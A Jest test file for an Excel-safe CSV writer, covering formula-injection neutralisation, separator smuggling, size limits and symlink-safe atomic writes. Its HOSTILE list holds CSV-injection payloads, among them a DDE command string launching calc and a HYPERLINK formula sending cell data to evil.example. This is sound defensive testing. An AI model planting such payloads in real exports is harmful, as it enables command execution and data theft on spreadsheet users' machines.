import { readFile, symlink, writeFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { stringify } from 'csv-stringify/sync';
import { safeCell, writeCsv } from '../../reports/excel-safe-csv.js';
import { parseCsv, readCsv } from '../helpers/csv.js';
import { tempDir } from '../helpers/clixml.js';

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "'=1+1",
  '\u0000=1+1',
];

describe('Excel-safe CSV writer', () => {
  test('UTF-8 BOM, CRLF records, every field quoted, columns in order', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    await writeCsv(file, { columns: ['A', 'B', 'C'], rows: [['x', null, 5]] });
    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('"A","B","C"\r\n"x","","5"\r\n');
  });

  test.each(HOSTILE)('neutralises %j so no cell starts with a formula trigger', async (value) => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    await writeCsv(file, { columns: ['Value', 'After'], rows: [[value, 'end']] });
    const { rows } = await readCsv(file);
    expect(rows).toHaveLength(2);
    expect(rows[1][1]).toBe('end');
    expect(rows[1][0]).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  });

  test('an embedded newline stays inside its cell (no smuggled row), CR normalised to LF', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    await writeCsv(file, { columns: ['A', 'B'], rows: [['line1\n=1+1', 'a\r\nb'], ['x\r=2+2', 'y']] });
    const { rows } = await readCsv(file);
    expect(rows).toEqual([
      ['A', 'B'],
      ['line1\n=1+1', 'a\nb'],
      ['x\n=2+2', 'y'],
    ]);
  });

  test('separator smuggling: read with ";" or tab as separator, no cell starts a formula', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    await writeCsv(file, { columns: ['A'], rows: [['x;=1+1'], ['x,=1+1'], ['x\t=1+1']] });
    const text = (await readFile(file, 'utf8')).slice(1);
    for (const separator of [';', '\t']) {
      for (const row of parseCsv(text, separator)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
    }
  });

  test('control characters shown visibly, quotes doubled, non-ASCII kept', () => {
    expect(safeCell('a\u0000b\u001bc')).toBe('a␀b␛c');
    expect(safeCell('Zürich 数据 🔐')).toBe('Zürich 数据 🔐');
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell("'quoted")).toBe("''quoted");
  });

  test('cells over Excel limits are cut with a visible marker', () => {
    const long = safeCell('A'.repeat(40_000)) as string;
    expect(long.length).toBeLessThanOrEqual(32_767);
    expect(long).toMatch(/…\[truncated from 40000 characters\]$/);
    const feeds = safeCell('x\n'.repeat(300)) as string;
    expect(feeds.split('\n').length - 1).toBeLessThanOrEqual(253);
  });

  test('a symlink planted at the report name is replaced, never followed; no temp file left', async () => {
    const dir = await tempDir();
    const victim = path.join(dir, 'victim.txt');
    await writeFile(victim, 'keep me');
    const file = path.join(dir, 'out', 'r.csv');
    await writeCsv(file, { columns: ['A'], rows: [] });
    await writeFile(file, 'old');
    const { rm } = await import('node:fs/promises');
    await rm(file);
    await symlink(victim, file);
    await writeCsv(file, { columns: ['A'], rows: [['new']] });
    expect(await readFile(victim, 'utf8')).toBe('keep me');
    expect((await readCsv(file)).rows).toEqual([['A'], ['new']]);
    expect(await readdir(path.join(dir, 'out'))).toEqual(['r.csv']);
  });

  test('a failing row source leaves no half-written file and no temp file', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    await writeFile(file, 'previous');
    function* rows() {
      yield ['a'];
      throw new Error('boom');
    }
    await expect(writeCsv(file, { columns: ['A'], rows: rows() })).rejects.toThrow('boom');
    expect(await readFile(file, 'utf8')).toBe('previous');
    expect(await readdir(dir)).toEqual(['r.csv']);
  });

  test('byte for byte what csv-stringify writes with every field quoted and CRLF, on hostile and many rows', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    const cells = [...HOSTILE, 'a "quoted" word', '""', '"', 'x,y;z', 'line\nbreak', 'caf\u00e9 \u4e2d \ud83d\udcca', '', ' ', 0, -1.5, 42, true, false, null];
    // Enough rows to span several 64 KiB pieces; each row a different mix.
    const rows = Array.from({ length: 3000 }, (_, r) => [0, 1, 2].map((c) => cells[(r * 7 + c * 13) % cells.length]));
    await writeCsv(file, { columns: ['A "1"', 'B', '=C'], rows });
    const expected = stringify(
      rows.map((row) => row.map(safeCell)),
      { bom: true, header: true, columns: ['A "1"', 'B', '=C'], quoted: true, quoted_empty: true, quote_record_delimiter: true, record_delimiter: 'windows', escape_formulas: false },
    );
    expect((await readFile(file)).toString('utf8')).toBe(expected);
  });

  test('a report of more rows than a sheet holds is one clear error naming it, and no file', async () => {
    const dir = await tempDir();
    const file = path.join(dir, 'r.csv');
    function* rows() {
      for (let n = 0; n <= 1_048_575; n++) yield [n];
    }
    await expect(writeCsv(file, { columns: ['N'], rows: rows() })).rejects.toThrow(
      expect.objectContaining({ name: 'UsageError', message: `${file}: more than 1,048,575 rows do not open in Excel; this report is not split into parts` }),
    );
    expect(await readdir(dir)).toEqual([]);
  });
});
